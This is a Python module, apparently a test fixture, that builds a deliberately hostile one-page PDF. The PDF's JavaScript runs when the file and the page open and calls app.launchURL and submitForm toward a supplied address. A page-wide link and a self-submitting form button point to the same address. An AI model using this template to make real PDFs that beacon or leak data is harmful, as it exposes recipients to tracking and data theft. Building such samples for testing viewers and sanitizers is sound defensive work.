"""A PDF as somebody with bad intentions would send it."""

#: Eight lines like the one above each of them (Group 4), and the end.
FAX = "\xff\x00\x10\x01"


def document(text: str, address: str) -> bytes:
    """One page with a line of text, that tries everything a PDF can do to reach `address`.

    A script runs when it opens and when its page does, a link lies over the whole page, and a form
    submits itself. There is a red square, and below it a black one as a fax machine scans it.
    """
    script = f"app.alert('ran'); app.launchURL('{address}'); this.submitForm('{address}');"
    run = f"<< /S /JavaScript /JS ({escaped(script)}) >>"
    content = (
        f"BT /F1 24 Tf 60 700 Td ({escaped(text)}) Tj ET 0.9 0.1 0.1 rg 60 300 200 200 re f"
        " q 200 0 0 100 60 150 cm /Fax Do Q"
    )
    return assembled(
        [
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction {run}"
            f" /AA << /WC {run} >> /AcroForm << /Fields [7 0 R] >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            " /Resources << /Font << /F1 5 0 R >> /XObject << /Fax 8 0 R >> >>"
            f" /Annots [6 0 R 7 0 R] /AA << /O {run} >> >>",
            f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0]"
            f" /A << /S /URI /URI ({address}) >> >>",
            "<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [300 300 400 400]"
            f" /A << /S /SubmitForm /F << /FS /URL /F ({address}) >> >> >>",
            "<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1"
            " /ColorSpace /DeviceGray /Decode [1 0] /Filter /CCITTFaxDecode"
            f" /DecodeParms << /K -1 /Columns 8 /Rows 8 >> /Length {len(FAX)} >>"
            f"\nstream\n{FAX}\nendstream",
        ]
    )


def assembled(objects: list[str]) -> bytes:
    """Write the objects one after another, then the table that says where each begins."""
    file = b"%PDF-1.7\n"
    places: list[int] = []
    for number, one in enumerate(objects, start=1):
        places.append(len(file))
        file += f"{number} 0 obj\n{one}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    return file + (
        f"xref\n0 {size}\n0000000000 65535 f \n{table}"
        f"trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{len(file)}\n%%EOF\n"
    ).encode("latin-1")


def escaped(text: str) -> str:
    """Text as it stands between the brackets of a PDF."""
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
